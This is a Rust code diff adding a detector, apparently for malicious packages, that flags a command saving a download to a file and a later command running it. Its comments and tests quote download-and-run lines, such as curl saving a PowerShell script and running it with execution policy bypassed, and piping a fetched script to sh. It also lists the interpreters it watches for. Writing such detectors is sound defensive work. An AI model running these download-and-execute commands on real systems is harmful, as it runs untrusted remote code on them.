@@ -148,6 +148,41 @@ fn check(rule: &Rule, pkg: &PackageFacts, out: &mut Vec<Finding>) {
                 ),
             ));
         }
+        // One command saves a download to a file and a later one runs that file
+        // (`curl -o s.ps1 URL`, then `powershell -File s.ps1`): the path is what flows.
+        let commands: Vec<(&malpi_python::Call, String)> = file
+            .calls
+            .iter()
+            .filter(|c| is_command(&c.name))
+            .filter_map(|c| c.texts().find(|t| t.len() <= 20_000).map(|t| (c, t)))
+            .collect();
+        for (i, (_, fetch)) in commands.iter().enumerate() {
+            let Some(saved) = saved_download(fetch) else {
+                continue;
+            };
+            let Some((runner, line)) = commands[i + 1..]
+                .iter()
+                .find(|(_, later)| runs_file(later, saved))
+            else {
+                continue;
+            };
+            if seen_lines.contains(&runner.span.line) {
+                continue;
+            }
+            seen_lines.push(runner.span.line);
+            out.push(rule.at(
+                file,
+                runner.span,
+                runner.trigger,
+                Behaviour::DownloadAndRun,
+                format!(
+                    "{} runs `{saved}`, which an earlier command downloaded: `{}` then `{}`",
+                    runner.name,
+                    malpi_python::cut(fetch, 80),
+                    malpi_python::cut(line, 80)
+                ),
+            ));
+        }
         for (s, _, _) in crate::text::matches(pkg, fi, CANDIDATES) {
             if s.value.len() > 20_000 || seen_lines.contains(&s.span.line) {
                 continue;
@@ -182,8 +217,69 @@ fn check(rule: &Rule, pkg: &PackageFacts, out: &mut Vec<Finding>) {
     }
 }
 
+/// The file a download command saves to (`curl -o F URL`, `wget -O F URL`, `--output F`).
+fn saved_download(command: &str) -> Option<&str> {
+    let lower = command.to_ascii_lowercase();
+    if !FETCHERS.iter().any(|f| lower.contains(f)) {
+        return None;
+    }
+    let mut words = command.split_whitespace();
+    while let Some(w) = words.next() {
+        if matches!(w, "-o" | "-O" | "--output" | "--output-document") {
+            let target = words.next()?.trim_matches(|c| c == '"' || c == '\'');
+            // A file name worth following: not a hole, not a dash (stdout).
+            return (target.len() >= 3 && !target.contains('{') && target != "-").then_some(target);
+        }
+    }
+    None
+}
+
+/// Whether a command line runs `file`: names it beside an interpreter or as the program.
+fn runs_file(command: &str, file: &str) -> bool {
+    if !command.contains(file) || FETCHERS.iter().any(|f| command.contains(f)) {
+        return false;
+    }
+    let lower = command.to_ascii_lowercase();
+    let program = lower.split_whitespace().next().unwrap_or("");
+    let interpreters = [
+        "powershell",
+        "pwsh",
+        "cmd",
+        "bash",
+        "sh",
+        "python",
+        "python3",
+        "wscript",
+        "cscript",
+        "mshta",
+        "start",
+        "rundll32",
+        "regsvr32",
+        "chmod",
+        "msiexec",
+    ];
+    interpreters
+        .iter()
+        .any(|i| program.trim_end_matches(".exe") == *i)
+        || program.ends_with(&file.to_ascii_lowercase())
+        || lower.contains(&format!("./{}", file.to_ascii_lowercase()))
+}
+
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn a_download_saved_then_run_by_a_later_command() {
+        let saved = super::saved_download("curl -s -o s.ps1 http://203.0.113.4:8000/d").unwrap();
+        assert_eq!(saved, "s.ps1");
+        assert!(super::runs_file(
+            "powershell.exe -ExecutionPolicy Bypass -File s.ps1",
+            saved
+        ));
+        assert!(!super::runs_file("type s.ps1.log", saved));
+        assert!(super::saved_download("curl -o - https://x.example").is_none());
+        assert!(super::saved_download("git clone https://x.example/r -o origin").is_none());
+    }
+
     #[test]
     fn shell_lines() {
         assert!(super::classify("curl -s http://x/a.sh | sh").is_some());
